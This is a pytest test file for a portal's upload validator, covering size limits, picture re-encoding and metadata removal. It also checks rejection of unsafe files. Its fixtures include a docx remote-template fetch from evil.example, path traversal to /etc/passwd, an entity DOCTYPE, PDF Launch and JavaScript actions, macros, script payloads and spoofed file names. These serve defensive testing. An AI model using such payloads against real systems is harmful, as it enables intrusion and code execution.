"""What is taken of the files that strangers send."""

import io

import pytest
from PIL import Image

from portal.files import operations
from portal.files.operations import validate_upload
from portal.files.states import LONGEST_SIDE, MOST_BYTES, MOST_PAGES, MOST_PICTURE_BYTES, UnfitFile, UploadFault
from tests.portal.files import files

REMOTE_TEMPLATE = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
)
EXPANDING = b'<!DOCTYPE a [<!ENTITY b "c">]><Relationships/>'


class TestSizes:
    """A picture may be bigger than another file: it is drawn anew, and smaller."""

    @pytest.mark.parametrize(
        ("bound", "data"), [("MOST_BYTES", files.pdf()), ("MOST_PICTURE_BYTES", files.picture())], ids=["pdf", "jpg"]
    )
    def test_are_taken_up_to_the_bound(self, monkeypatch: pytest.MonkeyPatch, bound: str, data: bytes):
        monkeypatch.setattr(operations, "MOST_BYTES", 1)
        monkeypatch.setattr(operations, bound, len(data))
        assert validate_upload(data=data, name="a").data
        monkeypatch.setattr(operations, bound, len(data) - 1)
        with pytest.raises(UnfitFile) as told:
            validate_upload(data=data, name="a")
        assert told.value.fault is UploadFault.TOO_BIG

    def test_of_nothing_are_told_of_what_only_begins_with_nothing(self):
        for data, fault in ((bytes(5_000), UploadFault.EMPTY), (bytes(5_000) + b"x", UploadFault.WRONG_KIND)):
            with pytest.raises(UnfitFile) as told:
                validate_upload(data=data, name="a")
            assert told.value.fault is fault


class TestPictures:
    def test_lose_where_and_with_what_they_were_taken(self):
        sent = files.picture_from_a_telephone()
        assert b"Exif" in sent
        kept = validate_upload(data=sent, name="IMG 0001.JPG")
        assert (kept.name, kept.media_type) == ("IMG 0001.jpg", "image/jpeg")
        assert b"Exif" not in kept.data
        assert b"105.7469" not in kept.data
        with Image.open(io.BytesIO(kept.data)) as drawn:
            assert drawn.size == (200, 300)  # upright
            assert not drawn.getexif()

    @pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP"])
    def test_of_every_kind_become_jpeg(self, kind: str):
        kept = validate_upload(data=files.picture(kind=kind), name=f"don.{kind.lower()}")
        assert kept.data.startswith(b"\xff\xd8\xff")
        assert kept.name == "don.jpg"

    def test_are_bounded(self):
        with Image.open(io.BytesIO(validate_upload(data=files.picture(size=(4000, 3000)), name="a").data)) as drawn:
            assert max(drawn.size) == LONGEST_SIDE

    def test_lose_what_hid_behind_them(self):
        kept = validate_upload(data=files.picture() + files.archive(a=b"<script>"), name="a.jpg")
        assert b"PK\x03\x04" not in kept.data


@pytest.mark.parametrize(
    "data",
    [files.pdf(), files.pdf(pages=MOST_PAGES), files.pdf(act=files.action("/GoTo"))],
    ids=["one page", "many pages", "opens at a page"],
)
def test_a_harmless_pdf_is_kept_as_it_is(data: bytes):
    kept = validate_upload(data=data, name="../../đơn khởi kiện.exe")
    assert kept.data == data
    assert (kept.name, kept.media_type) == ("đơn khởi kiện.pdf", "application/pdf")


def test_a_harmless_word_file_is_kept_as_it_is():
    data = files.docx()
    assert validate_upload(data=data, name="Hợp đồng.docx").data == data


@pytest.mark.parametrize(
    ("data", "fault"),
    [
        pytest.param(b"", UploadFault.EMPTY, id="nothing"),
        pytest.param(b"\x00" * 40, UploadFault.EMPTY, id="zeros"),
        pytest.param(files.pdf() + b" " * MOST_BYTES, UploadFault.TOO_BIG, id="too big"),
        pytest.param(files.picture() + bytes(MOST_PICTURE_BYTES), UploadFault.TOO_BIG, id="too big a picture"),
        pytest.param(b"MZ\x90\x00 program", UploadFault.WRONG_KIND, id="program"),
        pytest.param(b"<html><script>alert(1)</script>", UploadFault.WRONG_KIND, id="html"),
        pytest.param(b"<svg xmlns='http://www.w3.org/2000/svg' onload='a()'/>", UploadFault.WRONG_KIND, id="svg"),
        pytest.param(b"GIF89a;", UploadFault.WRONG_KIND, id="gif"),
        pytest.param(b"\xd0\xcf\x11\xe0" + bytes(600), UploadFault.OLD_WORD, id="old word"),
        pytest.param(b"\x00\x00\x00\x18ftypheic" + bytes(50), UploadFault.HEIC, id="heic"),
        pytest.param(b"\xff\xd8\xff" + b"no picture" * 9, UploadFault.UNREADABLE, id="broken picture"),
        pytest.param(files.bomb_of_pixels(), UploadFault.TOO_MANY_PIXELS, id="bomb of pixels"),
        pytest.param(b"\n\n" + files.pdf(), UploadFault.WRONG_KIND, id="something before a pdf"),
        pytest.param(files.pdf() + files.archive(a=b"x" * 2000), UploadFault.UNSAFE, id="something behind a pdf"),
        pytest.param(b"%PDF-1.7\nnothing\n%%EOF", UploadFault.UNREADABLE, id="broken pdf"),
        pytest.param(files.pdf(pages=MOST_PAGES + 1), UploadFault.TOO_MANY_PAGES, id="long pdf"),
        pytest.param(files.pdf(password="bi-mat"), UploadFault.LOCKED, id="locked pdf"),
        pytest.param(files.pdf(act=files.action("/JavaScript", JS="x")), UploadFault.UNSAFE, id="pdf with script"),
        pytest.param(files.pdf(act=files.action("/Launch", F="cmd.exe")), UploadFault.UNSAFE, id="pdf that launches"),
        pytest.param(files.pdf_with_a_name_in_escapes(), UploadFault.UNSAFE, id="pdf with a script in escapes"),
        pytest.param(files.archive(**{"a.txt": b"x"}), UploadFault.WRONG_KIND, id="zip as docx"),
        pytest.param(files.docx() + b"trailing" * 10, UploadFault.UNSAFE, id="something behind a docx"),
        pytest.param(b"PK\x03\x04" + bytes(300), UploadFault.UNSAFE, id="broken docx"),
        pytest.param(files.docx(parts={"word/vbaProject.bin": b"x"}), UploadFault.UNSAFE, id="macros"),
        pytest.param(files.docx(parts={"word/embeddings/a.xlsx": b"x"}), UploadFault.UNSAFE, id="file in a file"),
        pytest.param(
            files.docx(parts={"word/_rels/settings.xml.rels": REMOTE_TEMPLATE}), UploadFault.UNSAFE, id="fetches"
        ),
        pytest.param(files.docx(parts={"word/_rels/a.rels": EXPANDING}), UploadFault.UNSAFE, id="entities"),
        pytest.param(files.docx(parts={"../../etc/passwd": b"x"}), UploadFault.UNSAFE, id="climbs out"),
        pytest.param(files.docx(parts={"Word/Document.xml": b"<a/>"}), UploadFault.UNSAFE, id="a part twice"),
        pytest.param(b"GIF89a;<script>alert(1)</script>", UploadFault.WRONG_KIND, id="script as gif"),
    ],
)
def test_what_is_not_taken_says_why(data: bytes, fault: UploadFault):
    with pytest.raises(UnfitFile) as told:
        validate_upload(data=data, name="tệp")
    assert told.value.fault is fault
    assert str(told.value).endswith(".")


@pytest.mark.parametrize(
    ("sent", "kept"),
    [
        ("Đơn số 7_a-b.c (1).pdf", "Đơn số 7_a-b.c (1).pdf"),
        ("đơn", "đơn.pdf"),
        (" . đơn . ", "đơn.pdf"),
        ("C:\\Users\\Tu\\don.pdf", "don.pdf"),
        ("..", "tep-gui-kem.pdf"),
        ("a\u202egpj.exe", "a gpj.pdf"),
        ("x" * 300, "x" * 120 + ".pdf"),
        ('"><script>.pdf', "script.pdf"),
    ],
)
def test_names_lead_nobody_astray(sent: str, kept: str):
    assert validate_upload(data=files.pdf(), name=sent).name == kept
